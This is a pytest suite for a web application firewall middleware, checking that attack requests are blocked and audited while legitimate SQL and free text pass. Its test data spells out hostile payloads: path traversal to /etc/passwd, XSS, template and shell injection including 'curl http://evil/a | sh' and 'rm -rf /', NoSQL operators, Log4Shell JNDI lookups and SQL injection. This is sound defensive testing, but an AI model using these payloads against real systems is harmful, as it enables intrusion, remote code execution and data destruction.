"""WAF: each rule class blocks (403, counted, audited), legitimate SQL and free text pass, bodies replay."""

from __future__ import annotations

import hashlib
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import httpx
import orjson
import pytest
from google.api import annotations_pb2, http_pb2
from google.protobuf import descriptor_pb2, descriptor_pool
from prometheus_client import REGISTRY

from edge.middleware.waf import DEFAULT_RULES, Matcher, WafMiddleware
from edge.objects import object_routes
from edge.transcoding.discovery import contract_services
from edge.transcoding.endpoint import rpc_routes
from edge.transcoding.rules import NO_RULE, RouteRule, WafField
from edge.transcoding.specs import RouteSpec, build_specs, byte_stream_specs
from edge.transcoding.table import FindRoute, RouteTable
from launchpad.api.v1 import options_pb2
from services.core.audit import AuditLog, verify_chain

FieldProto = descriptor_pb2.FieldDescriptorProto


class Echo:
    """Answers with what it received: the number of body messages, the size and sha256 of the body."""

    def __init__(self) -> None:
        self.calls = 0

    async def __call__(self, scope: Any, receive: Any, send: Any) -> None:
        self.calls += 1
        parts = []
        while True:
            message = await receive()
            parts.append(message.get("body", b""))
            if not message.get("more_body"):
                break
        body = b"".join(parts)
        answer = {"messages": len(parts), "size": len(body), "sha256": hashlib.sha256(body).hexdigest()}
        await send({"type": "http.response.start", "status": 200, "headers": []})
        await send({"type": "http.response.body", "body": orjson.dumps(answer)})


class ListAudit:
    def __init__(self) -> None:
        self.events: list[dict[str, Any]] = []

    def append(self, event: dict[str, Any]) -> str:
        self.events.append(event)
        return "sha"


@pytest.fixture
def audit() -> ListAudit:
    return ListAudit()


@pytest.fixture
async def waf(audit: ListAudit) -> AsyncIterator[httpx.AsyncClient]:
    app = routed(WafMiddleware(Echo(), audit), contract_services())
    transport = httpx.ASGITransport(app, client=("203.0.113.7", 4000))
    async with httpx.AsyncClient(transport=transport, base_url="http://edge") as client:
        yield client


def blocked_count(rule: str) -> float:
    return REGISTRY.get_sample_value("edge_waf_blocked_total", {"rule": rule}) or 0.0


# (rule, method, path, body) -- body None means a GET.
HOSTILE = [
    ("traversal", "GET", "/api/storage/buckets/b/objects?prefix=../../etc/passwd", None),
    ("traversal", "GET", "/api/storage/%2e%2e/%2e%2e/etc/passwd", None),
    ("traversal", "GET", "/api/storage/buckets/b/objects?prefix=a%00.png", None),
    ("traversal", "GET", "/api/storage/buckets/b/objects?prefix=%252e%252e%252f", None),
    ("traversal", "POST", "/api/storage/signed-url", {"bucket": "b", "key": "..\\..\\windows\\win.ini"}),
    ("xss", "POST", "/api/users", {"username": "<script>alert(1)</script>", "password": "x"}),
    ("xss", "POST", "/api/storage/buckets", {"name": "<img src=x onerror=alert(1)>"}),
    ("xss", "POST", "/api/realtime/publish", {"topic": "t", "msg": {"link": "JavaScript:alert(1)"}}),
    ("xss", "GET", "/api/wpk/artifacts?q=%3Csvg%2Fonload%3Dalert(1)%3E", None),
    ("ssti", "POST", "/api/storage/buckets", {"name": "{{7*7}}"}),
    ("ssti", "POST", "/api/realtime/publish", {"topic": "t", "msg": "{% import os %}"}),
    ("ssti", "POST", "/api/users", {"username": "${7*7}", "password": "x"}),
    ("shell", "POST", "/api/realtime/publish", {"topic": "t", "msg": ["build; rm -rf /"]}),
    ("traversal", "POST", "/api/wpk/pack", {"wpk": {"files": {"../../etc/cron.d/x": "* * * * * root sh"}}}),
    ("xss", "POST", "/api/wpk/pack", {"wpk": {"name": "<script>x</script>"}}),
    ("shell", "POST", "/api/storage/buckets", {"name": "x && curl http://evil/a | sh"}),
    ("shell", "POST", "/api/storage/buckets", {"name": "$(whoami)"}),
    ("shell", "POST", "/api/storage/buckets", {"name": "`id`"}),
    ("nosql", "POST", "/api/auth/login", {"username": {"$ne": None}, "password": "x"}),
    ("nosql", "POST", "/api/policies/dryrun", {"records": [{"filter": "this.a == 1 || $where"}]}),
    ("nosql", "GET", "/api/users?username[$ne]=admin", None),
    ("log4shell", "POST", "/api/users", {"username": "${jndi:ldap://evil.example/a}", "password": "x"}),
    ("log4shell", "POST", "/api/data/query", {"sql": "SELECT '${jndi:ldap://evil.example/a}'"}),
    ("log4shell", "POST", "/api/ai/query", {"question": "${${lower:j}ndi:ldap://evil/a}"}),
    ("log4shell", "GET", "/api/wpk/artifacts?x=%24%7Bjndi%3Armi%3A%2F%2Fevil%7D", None),
    ("sqli", "GET", "/api/users?username=x%27%20UNION%20SELECT%20password%20FROM%20users", None),
    ("sqli", "POST", "/api/auth/login", {"username": "admin' OR '1'='1", "password": "x"}),
    ("sqli", "POST", "/api/storage/buckets", {"name": "b'; DROP TABLE users"}),
    # The sql field is exempt only on the SQL routes; anywhere else SQL in a field is an injection attempt.
    ("sqli", "POST", "/api/users", {"username": "u", "password": "p", "sql": "1 UNION SELECT secret"}),
]


@pytest.mark.parametrize(("rule", "method", "path", "body"), HOSTILE)
async def test_hostile_requests_are_blocked(
    waf: httpx.AsyncClient, audit: ListAudit, rule: str, method: str, path: str, body: Any
) -> None:
    before = blocked_count(rule)
    response = await waf.request(method, path, json=body, headers={"x-request-id": "r-1"})
    assert response.status_code == 403
    payload = response.json()
    assert payload["code"] == 7  # PERMISSION_DENIED
    assert payload["message"] == f"request blocked by WAF rule {rule}"
    assert payload["details"][0]["rule"] == rule
    assert blocked_count(rule) == before + 1
    (event,) = audit.events
    assert event["action"] == "waf.block"
    assert event["outcome"] == "denied"
    assert event["rule"] == rule
    assert event["actor"] == "203.0.113.7"
    assert event["method"] == method


async def test_block_does_not_echo_the_payload(waf: httpx.AsyncClient, audit: ListAudit) -> None:
    response = await waf.post("/api/storage/buckets", json={"name": "<script>steal()</script>"})
    assert response.status_code == 403
    assert "steal" not in response.text
    assert "steal" not in orjson.dumps(audit.events).decode()
    assert audit.events[0]["where"] == "body:name"
    assert audit.events[0]["path"] == "/api/storage/buckets"


async def test_block_in_the_path_audits_a_fingerprint_not_the_path(
    waf: httpx.AsyncClient, audit: ListAudit
) -> None:
    response = await waf.get("/api/storage/%2e%2e/%2e%2e/etc/shadow")
    assert response.status_code == 403
    (event,) = audit.events
    assert event["where"] == "path"
    assert "path" not in event
    assert event["path_sha256"] == hashlib.sha256(b"/api/storage/../../etc/shadow").hexdigest()


LEGITIMATE = [
    # SQL is the database's business: string literals that look hostile, comments, several statements.
    (
        "/api/data/query",
        {
            "sql": "SELECT * FROM users WHERE name = '<script>alert(1)</script>' OR bio LIKE '%../%' -- note\n"
            "; SELECT 1 UNION SELECT 2; SELECT '{{x}}', '$(id)', pg_sleep(0)",
            "params": [{"$ne": 1}, "<b onerror=x>", "a; rm -rf /"],
        },
    ),
    ("/query", {"sql": "DELETE FROM t WHERE id = 1; DROP TABLE t"}),
    ("/api/data/explain", {"sql": "SELECT * FROM t WHERE x = '1' OR '1'='1'"}),
    ("/api/ai/query", {"question": "which users have <script> or ../ in their bio; show the union of both"}),
    ("/api/ai/sql/suggest", {"context": "SELECT * FROM orders WHERE note = '{{", "table": "orders"}),
    ("/api/logs/query", {"query": '{service="edge"} |= "<script" |~ "union select"'}),
    ("/api/metrics/query", {"query": 'sum(rate(edge_waf_blocked_total{rule=~".+"}[5m]))'}),
    ("/api/auth/login", {"username": "admin", "password": "p;id<script>${x}{{y}}'OR'1'='1"}),
    ("/api/users", {"username": "o'brien", "password": "s3cret!", "roles": ["developer"]}),
    (
        "/api/policies/dryrun",
        {
            "policy": {
                "name": "own-tenant",
                "rules": [
                    {
                        "effect": "allow",
                        "actions": ["read"],
                        "condition": {"record.tenant": "$subject.tenant"},
                    }
                ],
            },
            "records": [{"tenant": "acme", "note": "Wait... one = 1, ok? x.y/z & a|b"}],
        },
    ),
    ("/api/wpk/pack", {"wpk": {"name": "etl", "steps": [{"run": "make build && curl -fsS ${API}/ok | sh"}]}}),
    ("/api/wpk/pack", {"wpk": {"name": "etl", "env": {"TAG": "${{ inputs.tag }}"}}}),
    ("/api/realtime/publish", {"topic": "naksha.telemetry", "msg": {"cpu": 0.5, "text": "on load = fine"}}),
]


@pytest.mark.parametrize(("path", "body"), LEGITIMATE)
async def test_legitimate_requests_pass(
    waf: httpx.AsyncClient, audit: ListAudit, path: str, body: Any
) -> None:
    raw = orjson.dumps(body)
    response = await waf.post(path, content=raw, headers={"content-type": "application/json"})
    assert response.status_code == 200, response.text
    assert response.json()["sha256"] == hashlib.sha256(raw).hexdigest()  # replayed byte for byte
    assert audit.events == []


@pytest.mark.parametrize(
    "url",
    [
        "/api/users?page_size=10&page_token=abc",
        "/api/wpk/artifacts?onion=1&note=one%3D1",
        "/api/users/o'brien",
    ],
)
async def test_legitimate_query_strings_pass(waf: httpx.AsyncClient, url: str) -> None:
    assert (await waf.get(url)).status_code == 200


async def test_exempt_sql_field_still_checked_in_the_query_string_of_other_routes(
    waf: httpx.AsyncClient,
) -> None:
    assert (await waf.get("/api/data/tables?sql=1%20UNION%20SELECT%202")).status_code == 403
    assert (await waf.post("/api/data/query?sql=1%20UNION%20SELECT%202")).status_code == 200
    # Rules are per route (verb and path): a GET is not the Query route, so nothing is exempt there.
    assert (await waf.get("/api/data/query?sql=1%20UNION%20SELECT%202")).status_code == 403


async def test_chunked_body_is_replayed_as_it_came() -> None:
    echo = Echo()
    app = WafMiddleware(echo, ListAudit())
    body = orjson.dumps({"name": "x" * 300_000})

    async def chunked() -> AsyncIterator[bytes]:
        for start in range(0, len(body), 65536):
            yield body[start : start + 65536]

    transport = httpx.ASGITransport(app)
    async with httpx.AsyncClient(transport=transport, base_url="http://edge") as client:
        response = await client.post(
            "/api/x", content=chunked(), headers={"content-type": "application/json"}
        )
    assert response.status_code == 200
    assert response.json() == {
        "messages": 6,  # 5 chunks + the empty final message httpx sends
        "size": len(body),
        "sha256": hashlib.sha256(body).hexdigest(),
    }


async def test_hostile_json_at_the_end_of_a_chunked_body_is_found(waf: httpx.AsyncClient) -> None:
    body = orjson.dumps({"pad": "x" * 200_000, "name": "{{config}}"})

    async def chunked() -> AsyncIterator[bytes]:
        for start in range(0, len(body), 4096):
            yield body[start : start + 4096]

    response = await waf.post("/api/x", content=chunked(), headers={"content-type": "application/json"})
    assert response.status_code == 403
    assert response.json()["details"][0] == {"rule": "ssti", "where": "body:name"}


async def test_non_json_bodies_are_not_inspected(waf: httpx.AsyncClient) -> None:
    raw = b"<script>this is a file being uploaded</script>"
    response = await waf.put("/storage/upload/b/k", content=raw, headers={"content-type": "text/html"})
    assert response.status_code == 200
    assert response.json()["size"] == len(raw)


async def test_invalid_json_passes_to_the_route(waf: httpx.AsyncClient) -> None:
    raw = b'{"name": "<script>", broken'
    response = await waf.post("/api/x", content=raw, headers={"content-type": "application/json"})
    assert response.status_code == 200  # the route answers 400; the WAF does not guess
    assert response.json()["size"] == len(raw)


async def test_top_level_array_and_keys_are_inspected(waf: httpx.AsyncClient) -> None:
    assert (await waf.post("/api/x", json=["ok", {"deep": ["{{x}}"]}])).status_code == 403
    assert (await waf.post("/api/x", json={"<script>": 1})).status_code == 403


async def test_body_over_the_inspection_limit_is_refused() -> None:
    audit = ListAudit()
    app = WafMiddleware(Echo(), audit, max_body_bytes=100)
    transport = httpx.ASGITransport(app)
    async with httpx.AsyncClient(transport=transport, base_url="http://edge") as client:
        response = await client.post("/api/x", json={"name": "x" * 200})
    assert response.status_code == 413
    assert audit.events[0]["rule"] == "oversize"


async def test_audit_failure_still_blocks() -> None:
    class Broken:
        def append(self, event: dict[str, Any]) -> str:
            raise OSError("disk full")

    transport = httpx.ASGITransport(WafMiddleware(Echo(), Broken()))
    async with httpx.AsyncClient(transport=transport, base_url="http://edge") as client:
        response = await client.post("/api/x", json={"name": "{{x}}"})
    assert response.status_code == 403


async def test_blocks_go_to_the_hash_chained_audit_log(tmp_path: Path) -> None:
    log = AuditLog(tmp_path / "audit.log")
    transport = httpx.ASGITransport(WafMiddleware(Echo(), log), client=("198.51.100.1", 1))
    async with httpx.AsyncClient(transport=transport, base_url="http://edge") as client:
        await client.post("/api/x", json={"name": "{{x}}"})
        await client.get("/api/x?f=../../etc/passwd")
    verdict = verify_chain(tmp_path / "audit.log")
    assert verdict.ok and verdict.lines == 2
    events = [orjson.loads(line) for line in (tmp_path / "audit.log").read_bytes().splitlines()]
    assert [(e["rule"], e["actor"], e["outcome"]) for e in events] == [
        ("ssti", "198.51.100.1", "denied"),
        ("traversal", "198.51.100.1", "denied"),
    ]


async def test_websocket_handshake_with_hostile_query_is_closed() -> None:
    sent: list[dict[str, Any]] = []

    async def send(message: dict[str, Any]) -> None:
        sent.append(message)

    app = WafMiddleware(Echo(), ListAudit())
    scope = {"type": "websocket", "path": "/ws/realtime", "query_string": b"topic={{x}}", "headers": []}
    await app(scope, None, send)
    assert sent == [{"type": "websocket.close", "code": 1008, "reason": "blocked by WAF rule ssti"}]


def test_matcher_reports_the_first_match_and_honours_exemptions() -> None:
    ids = [rule.id for rule in DEFAULT_RULES]
    assert len(ids) == len(set(ids))
    matcher = Matcher(DEFAULT_RULES)
    assert matcher.match("plain text, nothing to see. Wait... ok") is None
    assert matcher.match("a {{x}} then <script>") == "ssti"  # leftmost wins
    assert matcher.match("${jndi:ldap://x}") == "log4shell"  # same position: the first listed rule
    assert matcher.match("<SCRIPT>") == "xss"  # case-insensitive
    assert matcher.match("{{x}}", frozenset({"ssti"})) is None
    assert matcher.match("{{x}}", frozenset(ids)) is None


@pytest.mark.parametrize(
    "text", ["wait..", "...", "v1..v2", "a.b", "price: $5", "x = y", "rock & roll", "50%"]
)
def test_everyday_text_is_not_flagged(text: str) -> None:
    assert Matcher(DEFAULT_RULES).match(text) is None


async def test_deeply_nested_json_is_walked_without_recursion(waf: httpx.AsyncClient) -> None:
    body = '{"a": ' + "[" * 1000 + '"{{x}}"' + "]" * 1000 + "}"  # deeper than Python's recursion limit
    response = await waf.post("/api/x", content=body, headers={"content-type": "application/json"})
    assert response.status_code == 403
    assert response.json()["details"][0] == {"rule": "ssti", "where": "body:a"}


async def test_large_bodies_are_scanned_off_the_loop_and_still_blocked(waf: httpx.AsyncClient) -> None:
    padding = "lorem ipsum " * 20_000  # ~240 KB: above the off-loop threshold
    hostile = await waf.post("/api/storage/buckets", json={"name": padding + "<script>alert(1)</script>"})
    assert hostile.status_code == 403
    clean = await waf.post("/api/storage/buckets", json={"name": padding})
    assert clean.status_code == 200
    assert clean.json()["size"] > 64 * 1024


# --- rules come from the contracts, and every binding of a method gets its method's rule -----------------


def _waf_contract() -> Any:
    """A method with an alias binding and a field rule for `sql`: neither binding is listed anywhere else."""
    package = "launchpad.waftest.v1"
    file = descriptor_pb2.FileDescriptorProto(
        name="launchpad/waftest/v1/waftest.proto",
        package=package,
        syntax="proto3",
        dependency=["google/api/annotations.proto", "launchpad/api/v1/options.proto"],
    )
    request = file.message_type.add(name="RunRequest")
    for number, name in enumerate(("sql", "note"), start=1):
        request.field.add(
            name=name, number=number, type=FieldProto.TYPE_STRING, label=FieldProto.LABEL_OPTIONAL
        )
    method = file.service.add(name="WafTestService").method.add(
        name="Run", input_type=f".{package}.RunRequest", output_type=f".{package}.RunRequest"
    )
    rule = http_pb2.HttpRule(post="/api/waftest/run", body="*")
    rule.additional_bindings.add(post="/run-alias", body="*")  # the binding a hand-kept list would miss
    method.options.Extensions[annotations_pb2.http].CopyFrom(rule)
    method.options.Extensions[options_pb2.edge].waf_fields.add(field="sql", only=["log4shell"])
    pool = descriptor_pool.Default()
    try:
        return pool.FindServiceByName(f"{package}.WafTestService")
    except KeyError:
        pool.Add(file)
        return pool.FindServiceByName(f"{package}.WafTestService")


def routed(app: Any, services: list[Any]) -> FindRoute:
    """`app` behind FindRoute over the routes of `services` (the endpoints are never called)."""
    return FindRoute(app, contract_table(services))


def contract_table(services: list[Any]) -> RouteTable:
    specs, _ = build_specs(services)
    ctx: Any = None  # endpoints only reached through the table's matching here
    return RouteTable([*object_routes(ctx, byte_stream_specs(services)), *rpc_routes(specs, ctx)])


async def test_a_new_binding_inherits_its_methods_waf_rule(audit: ListAudit) -> None:
    app = routed(WafMiddleware(Echo(), audit), [_waf_contract()])
    union = orjson.dumps({"sql": "SELECT a FROM t UNION SELECT b FROM u"})
    jndi = orjson.dumps({"sql": "SELECT '${jndi:ldap://evil.example/a}'"})
    headers = {"content-type": "application/json"}
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app), base_url="http://edge") as client:
        for path in ("/api/waftest/run", "/run-alias"):
            assert (await client.post(path, content=union, headers=headers)).status_code == 200, path
            assert (await client.post(path, content=jndi, headers=headers)).status_code == 403, path
        assert (await client.post("/elsewhere", content=union, headers=headers)).status_code == 403
        note = orjson.dumps({"note": "x UNION SELECT password FROM users"})  # only `sql` has the rule
        assert (await client.post("/run-alias", content=note, headers=headers)).status_code == 403


def _rule(table: RouteTable, method: str, path: str) -> RouteRule:
    return table.find({"type": "http", "method": method, "path": path, "root_path": ""})[2]


def test_contract_aliases_share_their_methods_rule() -> None:
    table = contract_table(contract_services())
    for main, alias in [
        ("/api/data/query", "/query"),
        ("/api/ai/query", "/api/ai/query-ai"),
        ("/api/ai/query", "/query-ai"),
        ("/api/ai/sql/suggest", "/sql/suggest"),
        ("/api/wpk/pack", "/wpk/pack"),
    ]:
        rule = _rule(table, "POST", main)
        assert rule != NO_RULE and rule == _rule(table, "POST", alias), alias
    specs, _ = build_specs(contract_services())
    for spec in specs:
        _, child, rule = table.find(
            {"type": "http", "method": spec.http_method, "path": spec.path, "root_path": ""}
        )
        assert isinstance(child["endpoint"].spec, RouteSpec), spec.template
        assert child["endpoint"].spec.method is spec.method, spec.template
        assert rule == spec.rule, spec.template


def test_unknown_rule_ids_in_a_contract_fail_at_start_up() -> None:
    bad = RouteRule(waf_fields=(("sql", WafField(only=frozenset({"log4shel"}))),))
    with pytest.raises(ValueError, match="log4shel"):
        WafMiddleware(Echo(), ListAudit(), route_rules=[bad])


async def test_signed_object_routes_are_not_inspected(audit: ListAudit) -> None:
    """ReadObject/WriteObject carry waf_skip: their path, query and bytes are opaque data."""
    app = routed(WafMiddleware(Echo(), audit), contract_services())
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app), base_url="http://edge") as client:
        url = "/storage/v1/object/b/notes/union select.txt?sig=abc&ct=text/plain"
        response = await client.put(url, content=b"<script>", headers={"content-type": "application/json"})
        read = await client.get("/storage/v1/object/b/<script>.txt?sig=abc")
    assert response.status_code == 200
    assert read.status_code == 200
    assert audit.events == []
